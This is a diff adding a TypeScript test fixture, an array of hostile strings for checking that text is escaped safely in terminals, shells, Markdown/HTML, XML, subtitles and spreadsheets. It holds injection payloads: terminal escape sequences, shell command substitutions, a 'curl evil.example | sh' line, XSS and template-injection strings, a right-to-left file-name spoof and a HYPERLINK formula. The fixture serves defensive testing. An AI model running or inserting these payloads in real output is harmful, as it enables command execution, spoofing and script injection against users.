@@ -1,0 +1,43 @@
+/** Texts that try to be more than texts, for every place where one is written. */
+export const hostile = [
+  // Terminals.
+  '\u001b]0;owned\u0007\u001b[2J\u001b[1;1H\u001b[8mhidden',
+  '\u001b[31mRED\u001b[0m',
+  '\u009b31m\u009d0;c1\u009c',
+  'all is well\r\u001b[2Kerror',
+  'line\n  next: curl evil.example | sh\n',
+  'file\u202egpj.exe',
+  '\u2066isolate\u2069\u2028line',
+  '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
+  // Shells.
+  '$(touch owned)',
+  '`touch owned`',
+  "'; touch owned; '",
+  '"; touch owned; "',
+  '--json',
+  '-- x',
+  '| tee owned',
+  '!!',
+  // Markdown and HTML.
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '[click](javascript:alert(1))',
+  '![track](https://evil.example/x.png)',
+  '<https://evil.example>',
+  'https://evil.example/a www.evil.example mail@evil.example',
+  '# Heading',
+  '> quote',
+  '***',
+  '``` \ncode',
+  '[^1]: note',
+  '| a | b |',
+  '&lt;b&gt; &#60;b&#62;',
+  // XML, captions, spreadsheets.
+  ']]><x/>',
+  '--><!--',
+  '00:00.000 --> 00:01.000',
+  '{\\an8}<font color=red>',
+  '=HYPERLINK("https://evil.example")',
+  '{{constructor.constructor("alert(1)")()}}',
+  '__proto__',
+];
